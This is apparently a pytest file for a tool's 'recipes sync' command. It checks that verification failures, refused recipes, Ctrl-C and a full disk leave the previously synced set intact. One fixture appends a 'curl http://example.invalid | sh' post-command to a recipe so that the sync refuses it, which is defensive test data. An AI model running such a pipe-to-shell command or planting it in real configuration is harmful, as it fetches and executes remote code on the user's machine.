"""`recipes sync` is all or nothing: every way a sync can fail — a verification failure, one refused recipe,
every recipe refused, two recipes with one name, a name that is no recipe name, Ctrl-C before or after
any step of the install, a full disk — leaves the previous synced set byte for byte (every path, every
byte, every link target of the synced dir compared before and after)."""

from __future__ import annotations

import errno
import json
import os
import shutil
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from metralectl.app import recipe_sync
from metralectl.core import synced_set
from metralectl.core.catalog import load_catalog
from metralectl.errors import ExitCode, MetralError
from metralectl.ownedfs import Owned
from metralectl.seams.sync_fetch import Source
from tests.unit.recipe_helpers import REPO
from tests.unit.release_fixture import fixture_recipes, reseal, write_release

FLAGSHIP = "qwen3.5/qwen3.5-35b-a3b-nvfp4"
CHANGING = ("make_root", "open_write", "make_dirs", "put", "move", "link", "remove_tree", "remove_file", "remove_dir")


def _installer() -> Any:
    from metralectl.app import sync_install  # here, not above: the other tests of this file also run on old code

    return sync_install


def snapshot(top: Path) -> dict[str, tuple[Any, ...]]:
    """Every entry under `top`: a link's target, a file's bytes and mode, a directory's mode (no link followed)."""
    out: dict[str, tuple[Any, ...]] = {}
    for dirpath, dirnames, filenames in os.walk(top):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            st = path.lstat()
            rel = str(path.relative_to(top))
            if stat.S_ISLNK(st.st_mode):
                out[rel] = ("link", os.readlink(path))
            elif stat.S_ISDIR(st.st_mode):
                out[rel] = ("dir", stat.S_IMODE(st.st_mode))
            else:
                out[rel] = ("file", path.read_bytes(), stat.S_IMODE(st.st_mode))
    return out


def _sync(location: Path, root: Path, **kwargs: Any) -> recipe_sync.SyncReport:
    return recipe_sync.sync(load_catalog(use_cache=False), Source(str(location)), root=root, today="2026-12-01",
                            **kwargs)


def _cli(*args: str, config: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "metralectl", *args], capture_output=True, text=True,
                          env={**os.environ, "METRALECTL_CONFIG_DIR": str(config)}, cwd=REPO, timeout=120)


@pytest.fixture()
def installed(tmp_path: Path, isolated_env: Path) -> Path:
    """A synced dir holding a previous set (b40), ready for a second sync to fail."""
    root = synced_set.synced_dir()
    _sync(write_release(tmp_path / "b40"), root)
    return root


def _with(recipes: dict[str, bytes], **extra: bytes) -> dict[str, bytes]:
    return {**recipes, **extra}


def _post_commands(data: bytes) -> bytes:
    return data + b"post_commands:\n- curl http://example.invalid | sh\n"


def _tampered_sidecar(release: Path) -> None:
    (release / "recipes.tar.gz.sha256").write_text("0" * 64 + "  recipes.tar.gz\n")


def _unsafe_id(release: Path) -> None:
    """An id with a trailing newline: `^...$` lets it through, and it would become the file `x\\n.yaml`."""
    index = json.loads((release / "index.json").read_text())
    entry = next(e for e in index["recipes"] if e["id"] == FLAGSHIP)
    entry["id"] = FLAGSHIP + "\n"
    index["files"][FLAGSHIP + "\n"] = index["files"].pop(FLAGSHIP)
    (release / "index.json").write_text(json.dumps(index))
    reseal(release, "index.json")


RECIPES = fixture_recipes()
FAILURES: dict[str, tuple[dict[str, bytes], Callable[[Path], None] | None]] = {
    "one refused recipe": (_with(RECIPES, **{"evil/post-commands": _post_commands(RECIPES[FLAGSHIP])}), None),
    "every recipe refused": ({"evil/a": _post_commands(RECIPES[FLAGSHIP]),
                              "evil/b": _post_commands(RECIPES["qwen3.5/qwen3.5-27b-dense-nvfp4"])}, None),
    "two recipes, one name": (_with(RECIPES, **{"other/qwen3.5-35b-a3b-nvfp4": RECIPES[FLAGSHIP]}), None),
    "a verification failure": (RECIPES, _tampered_sidecar),
    "an id that is no name": (RECIPES, _unsafe_id),
}


@pytest.mark.parametrize("case", FAILURES)
def test_a_failed_sync_leaves_the_previous_set_byte_for_byte(tmp_path: Path, installed: Path, case: str) -> None:
    recipes, damage = FAILURES[case]
    release = write_release(tmp_path / "b41", recipes)
    if damage is not None:
        damage(release)
    before = snapshot(installed)
    out = _cli("recipes", "sync", "--from", str(release), config=installed.parent)
    assert out.returncode == ExitCode.DATA, out.stderr
    assert "Traceback" not in out.stderr and "internal error" not in out.stderr
    assert snapshot(installed) == before


def test_every_refusal_is_listed_and_nothing_installed(tmp_path: Path, installed: Path) -> None:
    recipes, _ = FAILURES["every recipe refused"]
    before = snapshot(installed)
    with pytest.raises(recipe_sync.RecipesRefused, match="all 2 recipes of engine release b41 were") \
            as caught:
        _sync(write_release(tmp_path / "b41", recipes), installed)
    assert sorted(c.name for c in caught.value.report.refused) == ["a", "b"]
    assert all(p.line > 0 and p.file.startswith("b41:recipes/evil/") for c in caught.value.report.refused
               for p in c.problems)
    with pytest.raises(recipe_sync.RecipesRefused):  # nothing to install even when asked to skip refusals
        _sync(write_release(tmp_path / "b41", recipes), installed, skip_refused=True)
    assert snapshot(installed) == before


def test_a_name_taken_twice_refuses_the_release_naming_both(tmp_path: Path, installed: Path) -> None:
    recipes, _ = FAILURES["two recipes, one name"]
    with pytest.raises(recipe_sync.RecipesRefused) as caught:
        _sync(write_release(tmp_path / "b41", recipes), installed)
    [refused] = caught.value.report.refused
    assert refused.id == "qwen3.5/qwen3.5-35b-a3b-nvfp4" and "a second recipe named" in refused.problems[0].message


# --- Ctrl-C and a full disk at every step of the install -----------------------------------------------------


@pytest.fixture()
def staged(tmp_path: Path, installed: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """What a second sync (b41, one recipe changed) hands to sync_install.install, captured once."""
    recipes = dict(RECIPES)
    recipes[FLAGSHIP] = recipes[FLAGSHIP].replace(b"max_model_len: 8192", b"max_model_len: 4096")
    captured: dict[str, Any] = {}
    sync_install = _installer()
    real = sync_install.install

    def capture(root: Path, set_name: str, files: dict[str, Any], meta: dict[str, Any]) -> tuple[str, list[str]]:
        captured.update(set_name=set_name, files=files, meta=meta)
        raise KeyboardInterrupt

    monkeypatch.setattr(sync_install, "install", capture)
    with pytest.raises(KeyboardInterrupt):
        _sync(write_release(tmp_path / "b41", recipes), installed)
    monkeypatch.setattr(sync_install, "install", real)
    return captured


def _counting(monkeypatch: pytest.MonkeyPatch, fail_at: int | None, when: str, error: BaseException,
              calls: list[str]) -> None:
    """Every changing Owned method counted in `calls`; call number `fail_at` raises `error` before or after
    it did its work."""
    for name in CHANGING:
        real = getattr(Owned, name)

        def wrapper(self: Owned, *args: Any, _real: Any = real, _name: str = name, **kwargs: Any) -> Any:
            index = len(calls)
            calls.append(f"{_name} {args[0] if args else ''}")
            if index == fail_at and when == "before":
                raise error
            result = _real(self, *args, **kwargs)
            if index == fail_at and when == "after":
                raise error
            return result

        monkeypatch.setattr(Owned, name, wrapper)


def _steps(root: Path, staged: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> list[str]:
    calls: list[str] = []
    with monkeypatch.context() as patch:
        _counting(patch, None, "before", KeyboardInterrupt(), calls)
        _installer().install(root, staged["set_name"], staged["files"], staged["meta"])
    return calls


def _new_set(root: Path) -> dict[str, tuple[Any, ...]]:
    return {k: v for k, v in snapshot(root / os.readlink(root / "current")).items() if k != "release.json"}


@pytest.mark.parametrize("when", ["before", "after"])
def test_ctrl_c_at_every_step_leaves_the_previous_set_or_the_new_one_whole(
        tmp_path: Path, installed: Path, staged: dict[str, Any], monkeypatch: pytest.MonkeyPatch, when: str) -> None:
    reference = tmp_path / "reference"
    shutil.copytree(installed, reference, symlinks=True)
    steps = _steps(reference, staged, monkeypatch)
    switch = next(i for i, s in enumerate(steps) if s == "link current")
    assert steps[switch - 1].startswith("move .staging-") and any(s.startswith("put .staging-") for s in steps)
    assert any(s.startswith("remove_tree sets/") for s in steps[switch:])  # the old set, after the switch
    complete = _new_set(reference)
    for index in range(len(steps)):
        root = tmp_path / f"try-{when}-{index}"
        shutil.copytree(installed, root, symlinks=True)
        before = snapshot(root)
        with monkeypatch.context() as patch:
            _counting(patch, index, when, KeyboardInterrupt(), [])
            with pytest.raises(KeyboardInterrupt):
                _installer().install(root, staged["set_name"], staged["files"], staged["meta"])
        switched = index > switch or (index == switch and when == "after")
        if not switched:
            assert snapshot(root) == before, f"interrupted {when} step {index}: {steps[index]}"
        else:  # the new set is the installed one, whole; what the sweep did not reach, the next sync removes
            assert _new_set(root) == complete, f"interrupted {when} step {index}: {steps[index]}"
        assert not [p for p in root.iterdir() if p.name.startswith((".staging-", ".current"))]


def test_a_full_disk_at_any_write_leaves_the_previous_set(tmp_path: Path, installed: Path, staged: dict[str, Any],
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    shutil.copytree(installed, tmp_path / "reference", symlinks=True)
    steps = _steps(tmp_path / "reference", staged, monkeypatch)
    switch = steps.index("link current")
    for index in range(switch + 1):
        root = tmp_path / f"try-{index}"
        shutil.copytree(installed, root, symlinks=True)
        before = snapshot(root)
        with monkeypatch.context() as patch:
            _counting(patch, index, "before", OSError(errno.ENOSPC, "No space left on device"), [])
            with pytest.raises(MetralError) as caught:
                _installer().install(root, staged["set_name"], staged["files"], staged["meta"])
        assert caught.value.exit_code == ExitCode.FAILED and "No space left on device" in caught.value.message
        assert "nothing was installed" in caught.value.message
        assert snapshot(root) == before, steps[index]


def test_a_full_disk_through_the_cli_is_exit_1_not_an_internal_error(tmp_path: Path, installed: Path) -> None:
    """The whole command: the disk error is injected into the child by a sitecustomize hook (ENOSPC on the
    last write before the switch); the exit status, the message and the synced dir are the real ones."""
    hook = tmp_path / "hook"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(
        "import errno\nfrom metralectl.ownedfs import Owned\nreal = Owned.put\n"
        "def put(self, rel, data, mode=None):\n"
        "    if str(rel).endswith('release.json'):\n"
        "        raise OSError(errno.ENOSPC, 'No space left on device')\n"
        "    return real(self, rel, data, mode)\nOwned.put = put\n")
    release = write_release(tmp_path / "b41", RECIPES)
    before = snapshot(installed)
    env = {**os.environ, "METRALECTL_CONFIG_DIR": str(installed.parent),
           "PYTHONPATH": os.pathsep.join([str(hook), os.environ.get("PYTHONPATH", "")])}
    out = subprocess.run([sys.executable, "-m", "metralectl", "recipes", "sync", "--from", str(release)],
                         capture_output=True, text=True, env=env, cwd=REPO, timeout=120)
    assert out.returncode == ExitCode.FAILED, out.stderr
    assert "No space left on device; nothing was installed" in out.stderr and "internal error" not in out.stderr
    assert snapshot(installed) == before


def test_skip_refused_installs_the_rest_and_says_so(tmp_path: Path, installed: Path) -> None:
    recipes, _ = FAILURES["one refused recipe"]
    report = _sync(write_release(tmp_path / "b41", recipes), installed, skip_refused=True)
    assert report.installed and [c.name for c in report.refused] == ["post-commands"]
    assert synced_set.current(installed) == Path(report.installed)
